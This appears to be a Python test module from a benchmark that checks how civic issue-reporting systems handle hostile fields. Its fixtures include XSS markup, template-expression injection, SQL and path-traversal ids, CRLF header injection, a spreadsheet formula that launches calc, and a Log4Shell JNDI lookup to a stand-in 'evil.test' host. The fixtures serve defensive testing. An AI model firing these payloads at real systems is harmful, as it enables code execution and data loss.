"""Cases of hostile texts, ids, dates and numbers in the records of reports."""

from __future__ import annotations

from typing import Any

from benchmarks.hostile.case import MB, SERVERS, SHOWN, Case
from benchmarks.hostile.places import OTHER
from benchmarks.hostile.sound import Raw

HTML = f'<img data-hostile src="{OTHER}/photo.png" onerror=alert(1)><script data-hostile>x</script>'
EVALUATED = "[% 'evaluated-' || 6*7 %]"
OR_LESS = (SHOWN, "not_data")


def texts(number: str, name: str, does: str, *values: Any, **more: Any) -> Case:
    """A case with one report per text, which all text fields of the report have."""
    rows = tuple({"text": value} for value in values)
    given = {"systems": two_of(number), "rows": len(rows), **more}
    return Case(number, name, does, reports=rows, **given)


def two_of(number: str) -> tuple[str, ...]:
    """Two systems in turn for each case: the code that handles a text is the same for all."""
    at = int(number[1:]) % 2
    return SERVERS[at::2]


def slots(number: str, name: str, does: str, slot: str, *values: Any, **more: Any) -> Case:
    """A case with one report per value of a slot."""
    rows = tuple({slot: value} for value in values)
    return Case(number, name, does, reports=rows, **{"systems": SERVERS, **more})


CASES = (
    texts(
        "H1",
        "HTML, scripts, expressions in every text",
        "plain text",
        HTML,
        EVALUATED,
        f"{HTML}{EVALUATED}",
        "<a data-hostile href='javascript:alert(1)'>x</a>",
        systems=SERVERS,
    ),
    texts(
        "H2",
        "marks that turn and hide the writing",
        "marked or removed",
        "\u202egnp.exe\u202c",
        "a\u200bb\u2060c",
        "\ufeffx",
        "\u2066x\u2069",
        systems=SERVERS,
    ),
    slots(
        "H3",
        "ids that are paths, queries and SQL",
        "encoded, or left out",
        "id",
        "../../x",
        "..",
        "a/b",
        "a?x#y",
        "%2e%2e",
        "C:\\x",
        "\\\\evil\\s",
        "';DROP TABLE report;--",
        "x" * 100_000,
        ends=OR_LESS,
    ),
    slots(
        "H4",
        "ids with CR LF",
        "no header, no line",
        "id",
        "7\r\nX-Evil: 1",
        "7\nGET /",
        ends=OR_LESS,
    ),
    slots(
        "H7",
        "dates that there are not",
        "none",
        "time",
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "2026-02-30T10:00:00",
        "2026-01-01T00:00:00+14:59",
        "1" * 400,
        10**20,
        -1,
        "2026-12-31T23:59:60Z",
        ends=OR_LESS,
    ),
    texts(
        "H9",
        "a text of 10 MB",
        "cut at 20,000 signs",
        Raw('"' + "x" * (10 * MB) + '"'),
        systems=("open311",),
        size=8 * MB,
    ),
    texts(
        "H46",
        "expressions in names of categories, statuses, teams",
        "literal",
        "[% env('HOME') %]",
        "[%@project_path%]",
        EVALUATED,
        systems=SERVERS,
    ),
    texts(
        "H60",
        "worst cases of the expressions that look for mails, secrets, entities",
        "in linear time",
        "a@" * 40_000,
        "&" * 80_000,
        "token=" * 15_000,
        "(" * 80_000,
        "0" * 80_000,
        "<" * 80_000,
    ),
    texts("H61", "200,000 combining marks", "in linear time", "a" + "\u0301" * 200_000, size=MB),
    texts("H90", "emoji with joiners, Arabic, Devanagari", "kept", "👩‍👩‍👧 vu", "می‌خواهم", "क्‍ष"),
    texts("H91", "100,000 lines", "shown as a few", "x\n" * 100_000, size=MB),
    texts(
        "H92",
        "control characters",
        "left out of what is shown",
        "".join(map(chr, range(1, 32))),
        "\x7f\x80\x9f",
        "\x1b[31mred",
    ),
    texts(
        "H93",
        "full-width signs and formulas",
        "a text",
        "＝1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
    ),
    texts(
        "H94",
        "a template that looks like ours",
        "a text",
        "{name} %n %1 {0}",
        "%s %d %(x)s",
        "${jndi:ldap://evil.test/x}",
    ),
    texts(
        "H95",
        "a text of every plane of Unicode",
        "kept",
        "".join(map(chr, range(0x1F300, 0x1F900))),
        "\U0010ffff\U000e0001",
        "𝒳" * 5000,
    ),
    texts(
        "H96",
        "texts that are lists, objects, numbers",
        "a text or none",
        [1, 2],
        {"a": "b"},
        7,
        True,
        1.5,
        None,
        rows=None,
        ends=OR_LESS,
    ),
    slots(
        "H97",
        "ids that are no ids",
        "left out, with a warning",
        "id",
        None,
        "",
        " ",
        [],
        {},
        True,
        1.5,
        10**60,
        "\u202e7",
        "a\u200bb",
        ends=OR_LESS,
    ),
    slots(
        "H98",
        "statuses that are no words",
        "unknown",
        "status",
        None,
        [],
        {},
        7,
        "x" * 50_000,
        HTML,
        ends=OR_LESS,
    ),
    slots(
        "H99",
        "places of text, blanks, infinity",
        "none, or a number",
        "lat",
        "50,46",
        " 50.46 ",
        "∞",
        "nan",
        [],
        {},
        True,
        "0x10",
        ends=OR_LESS,
    ),
    slots(
        "H100",
        "places at the poles, beyond the globe, exchanged",
        "flagged or none",
        "lat",
        90,
        -90,
        91,
        1e300,
        4.86,
        0,
        ends=OR_LESS,
    ),
    slots(
        "H101",
        "addresses of photos that are no addresses",
        "none",
        "photo",
        "",
        "x",
        "\x00",
        "http://",
        "http://[::",
        "http://a b/c",
        "http://\u202eevil.test/",
        "x" * 100_000,
        systems=("open311", "fixmystreet", "publik"),
        ends=OR_LESS,
    ),
    slots(
        "H102",
        "categories of 20,000 signs and of HTML",
        "cut, plain",
        "service",
        "x" * 100_000,
        HTML,
        EVALUATED,
    ),
    Case(
        "H103",
        "a thousand reports in one place",
        "are shown",
        rows=1000,
        systems=("fixmystreet",),
        reports=tuple({"id": str(n)} for n in range(1000)),
        size=MB // 2,
    ),
    Case(
        "H104",
        "ids that differ in case, form and blanks alone",
        "are different reports",
        OR_LESS,
        systems=("open311", "publik"),
        reports=tuple({"id": one} for one in ("a", "A", "é", "e\u0301", "7 ", "7")),
    ),
)
